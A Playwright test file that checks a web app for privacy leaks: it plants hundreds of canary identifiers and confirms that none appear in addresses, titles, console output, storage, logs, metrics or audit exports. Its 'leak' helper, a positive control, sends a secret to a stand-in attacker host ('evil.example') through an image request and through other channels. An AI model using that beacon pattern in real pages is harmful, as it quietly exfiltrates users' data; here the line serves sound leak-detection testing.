import { expect, type Page, test } from "@playwright/test";
import { z } from "zod";
import { Canaries } from "../../server/testing/Canaries.ts";
import { signIn } from "./AccountPerson.ts";
import { isOfPage, pagePaths } from "./pagePaths.ts";
import { PlantedDemo } from "./PlantedDemo.ts";
import {
  goOffline,
  readTrail,
  upload,
  walkAroundSession,
  walkAsAdministrator,
  walkAsGuest,
  Walker,
  walkInSession,
  walkOutside,
} from "./plantedWalk.ts";

type Found = Readonly<Record<string, readonly string[]>>;

/** Lets a text out of the page in every way that there is. */
async function leak(page: Page, text: string): Promise<void> {
  await page.evaluate(async (secret) => {
    document.title = secret;
    // oxlint-disable-next-line no-console -- it is one of the ways
    console.info(btoa(`{"name":"${secret}"}`));
    history.replaceState({ secret }, "", `/?q=${secret}`);
    await fetch("/healthz", { referrerPolicy: "unsafe-url" });
    localStorage.setItem("last", secret);
    new Image().src = `https://evil.example/${secret}`;
    const link = document.createElement("a");
    Object.assign(link, { href: URL.createObjectURL(new Blob([""])), download: `${secret}.csv` }).click();
    void Promise.reject(new Error(secret));
  }, text);
}

/** What was found, by where; places where nothing was are left out. */
async function foundOf(name: string, { witness, page }: Walker, canaries: Canaries): Promise<Found> {
  const texts = { ...witness.heard, storage: [(await witness.kept(page)).storage] };
  return foundIn(
    Object.fromEntries(Object.entries(texts).map(([place, all]) => [`${name}: ${place}`, all.join("\n")])),
    canaries,
  );
}

function foundIn(places: Readonly<Record<string, string>>, canaries: Canaries): Found {
  const found = Object.entries(places).map(([place, text]) => [place, canaries.foundIn(text)] as const);
  return Object.fromEntries(found.filter(([, all]) => all.length > 0));
}

async function serverTexts(demo: PlantedDemo): Promise<Readonly<Record<string, string>>> {
  const read = (path: string) => demo.ask("administrator", ["GET", path], z.unknown());
  const texts: Record<string, string> = { output: demo.output };
  const formats = ["csv", "dicom", "fhir"].map((format) => `/api/audit/export?format=${format}`);
  for (const path of ["/metrics", "/api/audit?limit=200", ...formats]) texts[path] = JSON.stringify(await read(path));
  return texts;
}

test("T24 500 identifiers on every page are in no address, title, console, report or storage, log, metric or audit text", async ({
  browser,
}) => {
  await using demo = await PlantedDemo.start();
  const places = await demo.plant();
  const { canaries } = demo;
  const coordinator = demo.server.user("coordinator");
  canaries.all.push(coordinator.email, coordinator.password);
  const guest = await Walker.start(browser, demo);
  const staff = await Walker.start(browser, demo);
  const administrator = await Walker.start(browser, demo);
  const walkers = { guest, staff, administrator };

  await test.step("signed out, and by a link", async () => {
    await walkOutside(guest, places, demo);
    await walkAsGuest(guest, places);
  });
  await test.step("a coordinator: around the session, with uploads, in it, without a network", async () => {
    await staff.visit("/sign-in", staff.page.getByLabel("E-mail", { exact: true }));
    await signIn(staff.peer, coordinator);
    await walkAroundSession(staff, places);
    await upload(staff, places, demo);
    await walkInSession(staff, places, demo);
    await goOffline(staff, places, demo);
  });
  await test.step("an administrator", async () => {
    await administrator.visit("/", administrator.page.getByLabel("E-mail", { exact: true }));
    await signIn(administrator.peer, demo.server.description.administrator);
    await walkAsAdministrator(administrator);
    await test.step("[AT10] pages of the trail", () => readTrail(administrator));
  });

  await test.step("every page was visited, written into, and shows what was planted", () => {
    const visited = Object.values(walkers).flatMap(({ witness }) => [...witness.visited]);
    expect(pagePaths().length).toBeGreaterThanOrEqual(16);
    expect(pagePaths().filter((path) => !visited.some((one) => isOfPage(path, one)))).toEqual([]);
    expect(canaries.all.length).toBeGreaterThanOrEqual(500);
    expect(Object.values(walkers).flatMap(({ typed }) => typed).length).toBeGreaterThanOrEqual(20);
    const shown = Object.values(walkers).map(({ witness }) => witness.shown);
    expect(canaries.foundIn(shown.join("\n")).length).toBeGreaterThanOrEqual(150);
  });
  await test.step("and nothing of it is anywhere else", async () => {
    const texts = await serverTexts(demo);
    expect(texts["output"]).toContain('"route":"/api"');
    expect(texts["/metrics"]).toContain("consilium_http_requests_total");
    for (const path of Object.keys(texts).filter((one) => one.includes("audit")))
      expect([path, texts[path]?.includes("case-created")]).toEqual([path, true]);
    expect(foundIn(texts, canaries)).toEqual({});
    for (const [name, walker] of Object.entries(walkers)) expect(await foundOf(name, walker, canaries)).toEqual({});
  });
  await test.step("what would have shown it does show it", async () => {
    const proof = new Canaries();
    await leak(guest.page, proof.next());
    const all = [...Object.keys(guest.witness.heard), "storage"].map((place) => `guest: ${place}`);
    await expect.poll(async () => Object.keys(await foundOf("guest", guest, proof))).toEqual(all);
  });
  for (const { peer } of Object.values(walkers)) await peer.close();
});
